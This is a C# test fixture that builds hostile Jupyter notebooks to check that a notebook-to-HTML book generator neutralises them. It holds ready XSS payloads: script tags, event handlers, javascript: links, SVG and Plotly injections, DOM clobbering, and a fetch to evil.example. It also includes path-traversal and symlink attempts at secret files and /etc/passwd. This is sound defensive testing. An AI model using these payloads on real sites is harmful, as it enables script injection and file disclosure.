using System.Text.Json.Nodes;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using GanNotebooks.Workbook.Book;
using GanNotebooks.Workbook.Notebooks;
using static GanNotebooks.Workbook.Tests.NotebookText;

namespace GanNotebooks.Workbook.Tests.Book;

/// <summary>A book of twenty notebooks by somebody who wants to run a script, load something, or take a file along.</summary>
internal sealed class HostileBook : IDisposable
{
    /// <summary>What each script would do.</summary>
    public const string Deed = "window.pwned=1;alert(1);fetch('https://evil.example/x')";

    /// <summary>What stands in a file outside of the notebooks' folder.</summary>
    public const string Secret = "the-secret-of-another-folder";

    private const string Evil = "https://evil.example/";
    private const string Handler = $"<img src=x onerror=\"{Deed}\">";
    private const string Script = $"<script>{Deed}</script>";

    private static readonly byte[] Png =
        Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");

    private readonly TemporaryFolder folder = new();

    public HostileBook()
    {
        folder.Write("clone/GanNotebooks.sln", "");
        folder.Write("clone/notebooks/README.md", "# Map");
        folder.Write("secret/secret.png", Secret);
        folder.Write("secret/key", Secret);
        File.WriteAllBytes(folder.File("secret/real.png"), [.. Png, .. System.Text.Encoding.UTF8.GetBytes(Secret)]);
        folder.Write("strange/own.png", Secret); // a name that lies
        folder.Write("strange/a/pixel.png", "");
        folder.Write("strange/b/pixel.png", "");
        File.WriteAllBytes(folder.File("strange/a/pixel.png"), Png);
        File.WriteAllBytes(folder.File("strange/b/pixel.png"), [.. Png, 0]);
        File.CreateSymbolicLink(folder.File("strange/link.png"), folder.File("secret/real.png"));
        File.CreateSymbolicLink(folder.File("strange/out"), folder.File("secret"));
        Paths = [.. Notebooks().Select(notebook => Write(notebook.Name, notebook.Cells))];
        Problems = new BookWriter(new Repository(folder.File("clone")), folder.File("out")).Write(Paths);
    }

    public IReadOnlyList<string> Paths { get; }

    public IReadOnlyList<string> Problems { get; }

    public string Folder => folder.File("out/book");

    public IEnumerable<string> Pages => Directory.EnumerateFiles(Folder, "*.html");

    public void Dispose() => folder.Dispose();

    /// <summary>No script of a stranger, nothing that loads from elsewhere.</summary>
    public static void AssertInert(IDocument page, string name)
    {
        foreach (var element in page.All)
        {
            string what = $"{name}: {(element.OuterHtml.Length > 300 ? element.OuterHtml[..300] : element.OuterHtml)}";
            Assert.False(element.LocalName is "iframe" or "object" or "embed" or "base" or "style" or "template" or "frame" or "animate"
                or "foreignobject" or "math" or "video" or "audio", what);
            Assert.False(element.LocalName == "form" && element.ClassName != "search", what);
            if (element.LocalName == "script")
            {
                bool own = element.GetAttribute("src") is { } source && source.StartsWith("assets/", StringComparison.Ordinal);
                Assert.True(own || element.GetAttribute("type") == "application/json", what);
            }

            foreach (var attribute in element.Attributes)
                AssertInert(element, attribute, what);
        }
    }

    private static void AssertInert(IElement element, IAttr attribute, string what)
    {
        string value = string.Concat(attribute.Value.Where(letter => !char.IsWhiteSpace(letter) && !char.IsControl(letter)));
        Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), what);
        Assert.DoesNotContain("javascript:", value, StringComparison.OrdinalIgnoreCase);
        if (attribute.Name is "style" or "fill" or "stroke" or "marker-end")
            Assert.DoesNotContain("url(", value.Replace("url(#", "", StringComparison.Ordinal), StringComparison.OrdinalIgnoreCase);
        if (element.LocalName != "a" && attribute.Name is "src" or "srcset" or "href" or "data" or "poster" or "background" or "xlink:href")
        {
            Assert.True(value.StartsWith("assets/", StringComparison.Ordinal) || value == "data:,"
                || element.LocalName == "img" && SafeUrl.IsPicture(value), what);
        }
    }

    private static IEnumerable<(string Name, JsonObject[] Cells)> Notebooks()
    {
        yield return ("01-title-script", [Markdown($"# Title {Script} {Handler}\n\n## Heading {Script} {Handler}")]);
        yield return ("02-raw-html", [Markdown($"# Raw\n\n{Script}\n\n{Handler}\n\n"
            + $"<details ontoggle=\"{Deed}\" open>x</details>\n\ninline {Handler}")]);
        yield return ("03-links", [Markdown($"# [Links](javascript:{Deed})\n\n[a](javascript:{Deed}) [b](data:text/html,{Script}) "
            + $"<javascript:{Deed}> [c](JaVaScRiPt&colon;{Deed}) [d]: javascript:x\n\n[ref]\n\n[ref]: javascript:alert(1)\n\n"
            + "[e](%00) [f](file:///etc/passwd)")]);
        yield return ("04-remote", [Markdown($"# Remote\n\n![i]({Evil}a.png) <img src=\"{Evil}b.png\"> <img src='//evil.example/c.png'> "
            + $"<link rel=stylesheet href={Evil}> <style>@import '{Evil}';</style><p style=\"background:url({Evil}d.png)\">x</p>")]);
        yield return ("05-files", [Markdown("# Files\n\n![a](../secret/real.png) "
            + "![b](%2e%2e/secret/secret.png) ![c](/etc/passwd) ![d](link.png) "
            + "![e](out/real.png) "
            + "![f](own.png) ![g](/dev/zero) ![h](%00.png) ![i](../secret/key) ![j](x%2f..%2f..%2fsecret/real.png)")]);
        yield return ("06-two-pictures", [Markdown("# Two\n\n![a](a/pixel.png) ![b](b/pixel.png)")]);
        yield return ("07-html-output", [Markdown("# Output"), Output("text/html", Script + Handler + $"<svg onload=\"{Deed}\"></svg>"
            + $"<iframe src=\"{Evil}\"></iframe><a href=\"javascript:{Deed}\">x</a>")]);
        yield return ("08-svg-output", [Markdown("# Svg"), Output("image/svg+xml",
            $"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{Deed}\">{Script}<image href=\"{Evil}s.png\"/>"
            + $"<foreignObject>{Handler}</foreignObject></svg>")]);
        yield return ("09-png-output", [Markdown("# Png"),
            Output("image/png", $"x\" onerror=\"{Deed}\" y=\""), Output("image/png", "####")]);
        yield return ("10-figure-script", [Markdown("# Figure"), Output("text/html", "<figure><div id=\"gan-figure-1-1\"></div></figure>"
            + $"<script>(window.ganFigures1=window.ganFigures1||(function(){{{Deed}}})()).draw(\"gan-figure-1-1\",[],[],[],0);"
            + $"{Deed}// by Plotly.react</script>")]);
        yield return ("11-figure-source", [Markdown("# Source"), Output("text/html", Figure("draw", "\"gan-figure-1-2\"",
            """
            ["{\"type\":\"scatter\",\"x\":[1],\"y\":[1],\"text\":\"<span style='background:url(https://evil.example/t)'>x</span>\"}",
            "{\"images\":[{\"source\":\"https://evil.example/i.png\"}],\"title\":{\"text\":\"<a href='javascript:alert(1)'>x</a>\"}}"]
            """,
            "[[0,1]]", "[\"\"]", "0"))]);
        yield return ("12-figure-key", [Markdown("# Key"), Output("text/html", "<div id=\"gan-strip-1-key\"></div>"
            + Figure("key", "\"gan-strip-1-key\"",
                $"[[\"a\",\"\\\"><img src=x onerror='{Deed.Replace("'", "", StringComparison.Ordinal)}'>\",\"solid\"]]"))]);
        yield return ("13-figure-map", [Markdown("# Map"), Output("text/html", Figure("draw", "\"gan-figure-1-3\"",
            """["{\"type\":\"scattergeo\",\"lon\":[1],\"lat\":[1]}","{\"geo\":{}}"]""", "[[0,1]]", "[\"\"]", "0")),
            Output("text/html", Figure("draw", "\"gan-figure-1-5\"",
                """
                ["{\"x\":[1],\"y\":[1]}","{\"template\":{\"data\":{\"scatter\":[{\"type\":\"scattergeo\"}]}},
                \"updatemenus\":[{\"buttons\":[{\"method\":\"relayout\",\"args\":[{\"images[0].source\":\"https://evil.example/i.png\"}]}]}]}"]
                """.ReplaceLineEndings(""), "[[0,1]]", "[\"\"]", "0"))]);
        yield return ("14-plotly", [Markdown("# Plotly"), Output("text/html",
            $"<script data-gan-notebooks=\"plotly\">{Deed}</script>\n<div>x</div>"
            + Figure("draw", "\"gan-figure-1-4\"", """["{\"type\":\"bar\",\"y\":[1]}","{}"]""", "[[0,1]]", "[\"\"]", "0"))]);
        yield return ("15-errors", [Markdown("# Errors"),
            Raw(new JsonObject
            {
                ["output_type"] = "error",
                ["ename"] = Script,
                ["evalue"] = Handler,
                ["traceback"] = new JsonArray(Script),
            }),
            Raw(new JsonObject { ["output_type"] = "stream", ["name"] = Handler, ["text"] = Script }), Output("text/plain", Script),
            Output("text/latex", "$\\href{javascript:alert(1)}{x} \\includegraphics{https://evil.example/k.png}$")]);
        yield return ("16-code", [Code($"// {Script}\nvar a = \"{Handler.Replace("\"", "'", StringComparison.Ordinal)}\";"),
            Markdown($"```html\n{Script}\n```\n\n`{Script}`\n\n    {Script}")]);
        yield return ("17-clobber", [Markdown("# Clobber\n\n<a id=main name=katex>x</a>"
            + "<form id=query name=Plotly><input name=ganFigures></form><div id=hits></div><img name=bookIndex>")]);
        yield return (OperatingSystem.IsWindows() ? "18-name" : Handler.Replace(Evil, "", StringComparison.Ordinal),
            [Code("1")]);
        yield return ("index", [Markdown($"# Index {Script}")]);
        yield return ("20-deep", [Markdown(new string('[', 300)), Markdown(new string('>', 300)), Code(new string('(', 12_000)),
            Code(string.Concat(Enumerable.Repeat("A<", 8000))), Markdown(string.Concat(Enumerable.Repeat("<div>", 5000)) + Script)]);
    }

    private static string Figure(string method, params string[] arguments) =>
        $"<script>(window.ganFigures1=window.ganFigures1||(function ganFigures() {{\nreturn {{ }};\n}})())."
            + $"{method}({string.Join(",", arguments)});// by Plotly.react</script>";

    private static JsonObject Markdown(string source) => Cell(CellKind.Markdown, "m", source);

    private static JsonObject Code(string source) => Cell(CellKind.Code, "c", source);

    private static JsonObject Output(string type, string content) =>
        Raw(new JsonObject { ["output_type"] = "display_data", ["data"] = new JsonObject { [type] = content, ["text/plain"] = "words" } });

    private static JsonObject Raw(JsonObject output)
    {
        var cell = Code("1");
        cell["outputs"] = new JsonArray(output);
        return cell;
    }

    /// <summary>A notebook whose cells are Markdown, or what <see cref="Shown"/> made.</summary>
    public static string TextOf(params object[] cells)
    {
        var document = Document();
        document["cells"] = new JsonArray([.. cells.Select(cell => cell as JsonObject ?? Markdown((string)cell))]);
        return NotebookFile.ToText(document);
    }

    /// <summary>A cell with one output.</summary>
    public static JsonObject Shown(string type, string content) => Output(type, content);

    private string Write(string name, JsonObject[] cells)
    {
        var document = Document();
        document["cells"] = new JsonArray([.. cells]);
        return folder.Write($"strange/{name.Replace('/', ' ')}.ipynb", NotebookFile.ToText(document));
    }

    public static IDocument Open(string page) => new HtmlParser().ParseDocument(File.ReadAllText(page));
}
